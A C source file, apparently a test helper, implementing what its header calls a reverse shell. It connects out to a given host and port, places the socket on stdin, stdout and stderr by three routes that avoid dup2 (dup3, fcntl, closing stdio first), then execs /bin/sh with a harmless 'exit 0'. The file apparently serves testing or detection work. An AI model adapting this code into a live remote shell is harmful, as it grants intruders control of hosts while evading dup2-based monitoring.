/* sockstdio.c: a reverse shell that puts its socket on stdio without dup2, for the live tests.
 *
 *   sockstdio dup3|fcntl|reopen HOST PORT
 *
 * Connects to HOST:PORT (IPv4 or IPv6 literal), moves the socket onto fds 0, 1 and 2 with dup3,
 * with fcntl(F_DUPFD), or by closing stdio first so socket() itself returns fd 0 and dup() copies
 * it, then execs /bin/sh -c 'exit 0'. Exit 2 on bad usage, 1 when a call fails.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int sock_connect(const char *host, int port)
{
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	struct sockaddr_in a4 = { .sin_family = AF_INET, .sin_port = htons(port) };
	int v6 = strchr(host, ':') != NULL;
	int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	if (v6 ? inet_pton(AF_INET6, host, &a6.sin6_addr) != 1 : inet_pton(AF_INET, host, &a4.sin_addr) != 1)
		return -1;
	if (v6 ? connect(s, (struct sockaddr *)&a6, sizeof(a6)) : connect(s, (struct sockaddr *)&a4, sizeof(a4)))
		return -1;
	return s;
}

static int onto_stdio(const char *mode, const char *host, int port)
{
	int s;

	if (!strcmp(mode, "reopen")) {
		close(0), close(1), close(2);
		s = sock_connect(host, port);
		return s == 0 && dup(0) == 1 && dup(0) == 2 ? 0 : -1;
	}
	s = sock_connect(host, port);
	if (s < 3)
		return -1;
	for (int fd = 0; fd < 3; fd++) {
		if (!strcmp(mode, "dup3") && dup3(s, fd, 0) != fd)
			return -1;
		if (!strcmp(mode, "fcntl") && (close(fd), fcntl(s, F_DUPFD, fd)) != fd)
			return -1;
	}
	close(s);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 4 || (strcmp(argv[1], "dup3") && strcmp(argv[1], "fcntl") && strcmp(argv[1], "reopen"))) {
		fprintf(stderr, "usage: sockstdio dup3|fcntl|reopen HOST PORT\n");
		return 2;
	}
	if (onto_stdio(argv[1], argv[2], atoi(argv[3]))) {
		perror("sockstdio");
		return 1;
	}
	execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
	return 1;
}
